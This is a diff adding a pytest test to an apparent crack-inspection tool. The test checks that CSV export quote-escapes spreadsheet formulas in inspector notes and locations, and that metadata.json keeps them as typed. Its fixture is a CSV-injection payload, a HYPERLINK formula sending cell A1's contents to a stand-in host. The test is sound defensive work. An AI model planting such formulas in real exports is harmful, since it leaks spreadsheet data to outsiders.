@@ -451,6 +451,19 @@ def test_export_reads_back_as_a_distill_dataset(store, tmp_path):
     assert (report.flags, report.crack, report.no_crack, report.skipped) == (2, 1, 7, (reviewed_crack.uid,))
 
 
+def test_export_csv_cannot_carry_a_spreadsheet_formula(store, tmp_path):
+    """What an inspector types (note, location) opens in a spreadsheet as text, never as a
+    formula; metadata.json keeps it exactly as typed."""
+    note, location = '=HYPERLINK("http://x.example/?"&A1,"click")', "+49 pier 3"
+    add(store, real_frame("crack", 0), probs=(0.95, 0.2, 0.5, 0.49), location=location, note=note)
+    store.export_dataset(tmp_path / "export")
+    with open(tmp_path / "export" / "metadata.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert {(r["note"], r["location"]) for r in rows} == {("'" + note, "'" + location)}
+    meta = json.loads((tmp_path / "export" / "metadata.json").read_text(encoding="utf-8"))
+    assert {(p["note"], p["location"]) for p in meta["patches"]} == {(note, location)}
+
+
 def test_inspector_export_flags_command(tmp_path):
     """``inspector --store DIR --export-flags OUT``: no window, no model; refuses a non-empty OUT."""
     from inspector.qt.main import main
